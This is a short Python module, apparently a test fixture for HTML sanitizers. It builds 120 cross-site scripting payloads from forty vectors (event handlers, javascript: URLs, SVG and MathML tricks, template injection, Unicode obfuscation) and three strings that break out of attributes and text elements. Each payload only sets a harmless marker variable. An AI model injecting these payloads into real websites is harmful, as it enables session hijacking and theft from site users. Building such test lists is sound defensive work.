"""A hundred and twenty texts that would run where text is taken for markup."""

_DO = "window.__pwned=1"

VECTORS = (
    f"<script>{_DO}</script>",
    f"<script src='data:text/javascript,{_DO}'></script>",
    f'<img src=x onerror="{_DO}">',
    f"<img src=x onerror={_DO}//",
    f"<svg onload={_DO}>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><a xlink:href='javascript:{_DO}'><text>x</text></a></svg>",
    f"<math><mtext><img src=x onerror={_DO}></mtext></math>",
    f"<math href='javascript:{_DO}'>x</math>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_DO}'></iframe>",
    f"<object data='javascript:{_DO}'></object>",
    f"<embed src='javascript:{_DO}'>",
    f"<body onload={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}></select>",
    f"<textarea autofocus onfocus={_DO}></textarea>",
    f"<details open ontoggle={_DO}>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}>",
    f"<marquee onstart={_DO}>x</marquee>",
    f"<a href='javascript:{_DO}'>x</a>",
    f"<a href='java\tscript:{_DO}'>x</a>",
    f"<form action='javascript:{_DO}'><button>x</button></form>",
    f"<form><button formaction='javascript:{_DO}'>x</button></form>",
    f"<base href='javascript:{_DO}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_DO}'>",
    f"<link rel=stylesheet href='javascript:{_DO}'>",
    f"<style>@import 'javascript:{_DO}';</style>",
    f"<style onload={_DO}></style>",
    f"<div style='background:url(javascript:{_DO})'>x</div>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
    f"<template><img src=x onerror={_DO}></template>",
    f"<x onclick={_DO} tabindex=1 id=x autofocus onfocus={_DO}>x</x>",
    f"javascript:{_DO}",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    f"${{{_DO}}}",
    f"&lt;img src=x onerror={_DO}&gt;",
    f"\u202e<img src=x onerror={_DO}>\u2066\u200b",
)
BREAKS = ("", "\"'`>", "</textarea></title></style></script></noscript>-->]]>")
"""What gets out of attributes, and out of elements in which markup is text."""

PAYLOADS = tuple(before + vector for before in BREAKS for vector in VECTORS)
